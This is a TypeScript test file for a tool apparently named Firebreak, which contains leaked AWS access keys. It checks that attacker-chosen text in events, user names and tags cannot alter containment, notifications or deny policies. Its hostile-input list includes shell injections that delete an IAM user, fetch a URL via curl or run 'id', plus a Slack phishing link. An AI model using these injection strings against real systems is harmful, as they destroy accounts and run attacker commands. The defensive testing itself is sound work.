import { describe, expect, it } from 'vitest';
import { inferenceDenyArn } from '../../core/iam/inference-deny.ts';
import type { EventEnvelope } from '../../core/model/finding.ts';
import { healthEvent } from '../../drill/scenarios/health-event.ts';
import type { World } from '../../drill/world.ts';
import { administratorAccess, callsOf, denyAll, healthReport, leak, leakedUser, pagesOf, truthIn } from '../leak.ts';
import { rehearsed } from '../staged.ts';

const seed = 1;
const key = 'AKIAHOSTILE0EXAMPLE0';

/** Text that means something to a shell, to Slack, to a policy, to Step Functions, to a terminal, to JavaScript. */
const hostile = [
  "x'; aws iam delete-user --user-name admin; '",
  '$(curl 192.0.2.1)',
  '`id`',
  '<!channel> *bold* <https://evil.example|click>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a policy variable, as an attacker would write it
  '${aws:username}',
  '{} {} $.plan.steps $$.Execution.Input',
  'a\u202eb\u0007c\rForged: line',
  '__proto__',
  '*',
] as const;

describe('text that an attacker chose', () => {
  it.each(hostile)('as the exposed address and the name in the event changes nothing: %j', async (text) => {
    const report = (world: World): Promise<void> => {
      const event = healthReport(world);
      const detail = event.detail as { eventMetadata: object };
      return world.report({
        ...event,
        detail: { ...detail, eventMetadata: { ...detail.eventMetadata, exposedUrl: text, userName: text } },
      } as EventEnvelope);
    };
    const run = await rehearsed({ scenario: leak({ report }), seed });
    expect(truthIn(run)).toEqual({ denied: true, inactive: true });
    expect(run.measures.containment).toBe('contained');
    if (text.length > 1)
      for (const { text: mail, subject } of run.world.account.published) expect(subject + mail).not.toContain(text);
  });

  // IAM itself takes only letters, digits and +=,.@_- in the name of a user; tags, paths and events take more.
  it.each(['=cmd+1', 'x,y@z', '-rf', '__proto__', 'constructor'])(
    'as the name of the user contains exactly that user: %s',
    async (name) => {
      const report = async (world: World): Promise<void> => {
        world.account.createUser({ name, keys: [key], attached: [administratorAccess] });
        await world.report(healthEvent(world, { accessKeyId: key, userName: name }));
      };
      const run = await rehearsed({ scenario: leak({ report }), seed });
      expect(run.measures.containment).toBe('contained');
      expect(run.world.account.user(name)?.attached.control()).toContain(denyAll);
      expect(run.world.account.user(leakedUser)?.attached.control()).not.toContain(denyAll);
    },
  );

  it('as the value of a tag decides nothing but what a rule says of it', async () => {
    const run = await rehearsed({
      scenario: leak({ user: { tags: { 'firebreak:mode': 'observe', team: '*' } } }),
      seed,
    });
    expect(run.measures.containment).toBe('contained');
  });
});

describe('what Firebreak attaches', () => {
  it('is one of two policies whose text no incident changes', async () => {
    const run = await rehearsed({ scenario: leak(), seed });
    const { policies } = run.world.account;
    const before = JSON.stringify(policies.get(inferenceDenyArn('123456789012'))?.document);
    const again = await rehearsed({ scenario: leak({ user: { tags: { a: hostile[4] } } }), seed });
    expect(JSON.stringify(again.world.account.policies.get(inferenceDenyArn('123456789012'))?.document)).toBe(before);
    expect(before).not.toContain('Condition');
    const written = callsOf(again).map(({ action }) => action);
    for (const action of ['iam:PutUserPolicy', 'iam:CreatePolicy', 'iam:CreatePolicyVersion'])
      expect(written).not.toContain(action);
  });
});

describe('a page', () => {
  it('shows commands that a shell reads as one user name, whatever the user is called', async () => {
    const name = "o'brien;reboot";
    const report = async (world: World): Promise<void> => {
      world.account.createUser({ name, keys: [key], attached: [administratorAccess] });
      await world.report(healthEvent(world, { accessKeyId: key, userName: name }));
    };
    const faults = {
      refuse: ({ action }: { action: string }) =>
        /^iam:(Attach|Put|Update)/.test(action) ? ('AccessDenied' as const) : undefined,
    };
    const run = await rehearsed({ scenario: leak({ report }), seed, faults });
    expect(pagesOf(run)[0]?.text).toContain(`--user-name 'o'\\''brien;reboot' --policy-arn`);
  });
});
